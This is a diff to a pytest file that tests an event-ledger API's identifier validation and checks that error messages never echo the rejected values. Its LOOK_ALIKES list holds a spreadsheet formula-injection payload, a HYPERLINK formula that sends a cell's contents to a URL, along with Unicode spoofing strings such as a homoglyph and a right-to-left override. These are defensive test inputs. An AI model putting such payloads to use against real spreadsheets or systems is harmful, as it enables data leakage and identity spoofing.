@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
+from typing import Any
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -291,6 +293,105 @@ def test_a_problem_names_the_constraint_never_the_value_sent(
     assert SECRET_NAME not in response.text and SECRET_PHONE not in response.text
     assert "must" in problem["detail"] or "is not" in problem["detail"]
     assert_nothing_recorded(client)
+
+
+# Each holds "zq", which no part of a problem document does, to show it is never echoed.
+LOOK_ALIKES = [
+    "zq-agency\u200b",  # a zero-width space after a real-looking id
+    "zq-\u0430gency",  # a Cyrillic а for the Latin a
+    "zq-\u202eycnega",  # a right-to-left override: it displays as another id
+    '=HYPERLINK("http://127.0.0.1:1/?leak="&A2,"zq")',
+    "zq agency",
+    "zq-agency\n",  # JSON Schema's "$" is the end of the text, not of a line
+    "-zq",
+    "zq" * 100 + "z",  # one character too many
+]
+
+
+def as_actor(field: str, value: str) -> dict[str, object]:
+    actor = {"id": "agent-a1", "role": "agent_of_record", "agency": "agency-a", field: value}
+    return event("note.added", {"text": "x"}, actor=actor)
+
+
+@pytest.mark.parametrize("value", LOOK_ALIKES)
+@pytest.mark.parametrize(
+    ("body", "pointer"),
+    [
+        (lambda value: as_actor("id", value), "/events/1/actor/id"),
+        (lambda value: as_actor("agency", value), "/events/1/actor/agency"),
+        (
+            lambda value: event("party.registered", party(party_id=value)),
+            "/events/1/payload/party_id",
+        ),
+        (
+            lambda value: event(
+                "contract.sale_signed",
+                {
+                    "buyer_party_ids": ["p-2", value],
+                    "seller_party_ids": ["p-1"],
+                    "price_minor": 1,
+                    "currency": "CNY",
+                },
+            ),
+            "/events/1/payload/buyer_party_ids/1",
+        ),
+        (
+            lambda value: event(
+                "agent.assigned",
+                {
+                    "agent_id": "a-1",
+                    "case_role": "agent_of_record",
+                    "licence_no": None,
+                    "supervisor_id": value,
+                },
+            ),
+            "/events/1/payload/supervisor_id",
+        ),
+    ],
+)
+def test_ids_are_ascii_identifiers_and_the_problem_states_the_rule(
+    client: TestClient, value: str, body: Callable[[str], dict[str, Any]], pointer: str
+) -> None:
+    response = client.post(URL, json={"events": [opened(), body(value)]})
+
+    problem = assert_problem(response, 422, "invalid-event", pointer)
+    assert "A–Z a–z 0–9 . _ -, starting with a letter or digit" in problem["detail"]
+    assert "zq" not in response.text
+    assert_nothing_recorded(client)
+
+
+@pytest.mark.parametrize("value", ["a", "agent_7.b-c", "0" * 200, "A.B"])
+def test_ids_of_the_rule_are_accepted_everywhere(client: TestClient, value: str) -> None:
+    actor = {"id": value, "role": "agent_of_record", "agency": value}
+    events = [
+        event("case.opened", {"kind": "sale", "property_ref": value}, actor=actor),
+        event("party.registered", party(party_id=value), actor=actor),
+    ]
+
+    assert client.post(URL, json={"events": events}).status_code == 201
+
+
+def test_the_catalogue_and_openapi_publish_the_id_rule(client: TestClient) -> None:
+    catalogue = client.get("/v1/catalogue").json()
+    openapi = client.get("/openapi.json").json()
+    actors = [
+        catalogue["envelope_schema"]["properties"]["actor"],
+        openapi["components"]["schemas"]["Event"]["properties"]["actor"],
+    ]
+    party_id = catalogue["types"]["party.registered"]["payload_schema"]["properties"]["party_id"]
+
+    for schema in [*(a["properties"][f] for a in actors for f in ("id", "agency")), party_id]:
+        assert schema["pattern"] == "^[A-Za-z0-9][A-Za-z0-9._-]{0,199}$"
+        assert "starting with a letter or digit" in schema["description"]
+
+
+@pytest.mark.parametrize(("length", "status"), [(200, 404), (201, 400)])
+def test_every_party_id_the_ledger_accepts_can_be_named_for_erasure(
+    client: TestClient, length: int, status: int
+) -> None:
+    response = client.post(f"/v1/parties/{'p' * length}/erasure", json={"reason": "request 7"})
+
+    assert response.status_code == status, response.text
 
 
 def test_numbers_out_of_range_are_described_not_repeated(client: TestClient) -> None:
